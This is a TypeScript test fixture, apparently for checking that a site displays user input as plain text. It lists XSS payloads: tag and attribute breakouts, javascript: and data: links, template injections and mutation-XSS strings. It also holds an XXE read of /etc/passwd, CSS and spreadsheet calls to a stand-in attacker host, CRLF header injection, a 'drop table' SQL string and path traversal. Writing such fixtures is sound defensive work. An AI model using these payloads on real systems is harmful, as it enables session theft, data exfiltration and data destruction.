import { elements, HIT, HOST, svgAndMath } from './xss-elements'

/**
 * What somebody may write who wants a page to do something. Collected for this house: each tries another way out of
 * words, an attribute, an address, a feed, a letter or a script. All of them must stand there as words.
 */

const breakouts = [
  `"><img src=x onerror=${HIT}>`,
  `'><img src=x onerror=${HIT}>`,
  `" autofocus onfocus="${HIT}`,
  `' autofocus onfocus='${HIT}`,
  `" onmouseover="${HIT}" x="`,
  '` onmouseover=`alert(1)',
  `</textarea><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</style><script>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `</noscript><img src=x onerror=${HIT}>`,
  `</bdi></p></article></ol><script>${HIT}</script>`,
  `--><script>${HIT}</script><!--`,
  `--!><img src=x onerror=${HIT}>`,
  `<!--<img src="--><img src=x onerror=${HIT}//">`,
  `]]><script>${HIT}</script>`,
  `]]></content:encoded></item><item><title>mine</title>`,
  `<![CDATA[<script>${HIT}</script>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<?php echo 1 ?><?xml-stylesheet href="${HOST}/x.xsl" type="text/xsl"?>`,
  `&e; &#0; &#xFFFE; &#x1; &unknown;`,
  `{"@context":"https://schema.org"}</script><script>${HIT}</script>`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `";${HIT};//`,
  `';${HIT};//`,
  `\\";${HIT};//`,
  `\u2028${HIT}\u2029`,
  `\${alert(1)}`,
  `*/${HIT}/*`,
]

const links = [
  `[x](javascript:${HIT})`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](java\tscript:alert(1))`,
  `[x](&#106;&#97;&#118;&#97;script:alert(1))`,
  `[x](javascript&colon;alert(1))`,
  `[x](javascript&#x3A;alert&#x28;1&#x29;)`,
  `[x](\u0001javascript:alert(1))`,
  `[x](<javascript:alert(1)>)`,
  `[x](\\javascript:alert(1))`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html,<script>alert(1)</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](feed:javascript:alert(1))`,
  `[x](view-source:javascript:alert(1))`,
  `[x](blob:${HOST}/1)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example)`,
  `[x](\\\\evil.example)`,
  `[x](https:evil.example)`,
  `[x](https://evil.example" onclick="alert(1))`,
  `[x](https://evil.example 'title" onmouseover="alert(1)')`,
  `[<img src=x onerror=alert(1)>](https://evil.example)`,
  `[https://www.nhs.uk](https://evil.example)`,
  `[x](https://www.nhs.uk@evil.example)`,
  `[x][y]\n\n[y]: javascript:alert(1)`,
  `![x](javascript:alert(1))`,
  `![x](https://evil.example/p.png)`,
  `![x](x" onerror="alert(1))`,
  `[![x](x" onerror="alert(1))](javascript:alert(1))`,
  `<javascript:alert(1)>`,
  `<https://evil.example/"onmouseover="alert(1)>`,
  `https://evil.example/"onmouseover="alert(1)`,
  `https://evil.example/<script>alert(1)</script>`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `> <img src=x onerror=alert(1)>\n\n- <svg onload=alert(1)>\n\n1. *<b onclick=alert(1)>*`,
  `*<script>*alert(1)*</script>*`,
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
]

const templates = [
  `{{constructor.constructor('alert(1)')()}}`,
  `{{7*7}} \${{7*7}} <%= 7*7 %> #{7*7} *{7*7}`,
  `<div v-html="'<img src=x onerror=alert(1)>'" ng-app ng-csp>{{$on.constructor('alert(1)')()}}</div>`,
  `<x x-data x-init="alert(1)" hx-get="${HOST}" hx-trigger=load>`,
  `__proto__[innerHTML]=<img/src/onerror=alert(1)>`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}`,
  `$L1 $@2 $Sreact.fragment 0:["$","script",null,{"src":"${HOST}/x.js"}]`,
]

const styles = [
  `<style>*{background:url(${HOST}/s)}</style>`,
  `<style>@import '${HOST}/x.css';</style>`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<p style="width:expression(alert(1));-moz-binding:url(${HOST}/x#y)">x</p>`,
  `}*{display:none}/* x`,
]

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
  `<select><noscript></select><img src=x onerror=alert(1)></noscript>`,
  `<a id=x><a id=x name=y href="cid:javascript:alert(1)">`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<listing>&lt;img onerror=alert(1) src=x&gt;</listing>`,
]

const signs = [
  `\u0000<script>alert(1)</script>`,
  `<scr\u0000ipt>alert(1)</scr\u0000ipt>`,
  `<\u200bscript>alert(1)</script>`,
  `\ufeff<script>alert(1)</script>`,
  `\u202e<script>alert(1)</script>\u202c`,
  `\u2066\u202ehttps://evil.example\u2069`,
  `＜script＞alert(1)＜/script＞`,
  `\u2039script\u203aalert(1)\u2039/script\u203a`,
  `ʺ><img src=x onerror=alert(1)>`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `a\u0300\u0301\u0302\u0303\u0304\u0305\u0306<script>alert(1)</script>`,
  `\ud83d<script>alert(1)</script>`,
  `Subject: x\r\nBcc: everybody@evil.example\r\n\r\n<script>alert(1)</script>`,
  `x%0d%0aSet-Cookie:%20hit=1%0d%0aLocation:%20${HOST}`,
  `=HYPERLINK("${HOST}","x")`,
  `'; drop table comments; --`,
  `../../../../etc/passwd%00.html`,
]

export const vectors: readonly string[] = [
  ...elements,
  ...svgAndMath,
  ...breakouts,
  ...links,
  ...templates,
  ...styles,
  ...mutations,
  ...signs,
]

/** All of them in as few texts as a form takes: each may try to break out of what the others left open. */
export function together(most: number): string[] {
  const texts: string[] = []
  for (const vector of vectors) {
    const last = texts.at(-1)
    const longer = `${last ?? ''}\n\n${vector}`
    if (last !== undefined && longer.length <= most) texts[texts.length - 1] = longer
    else texts.push(vector)
  }
  return texts
}
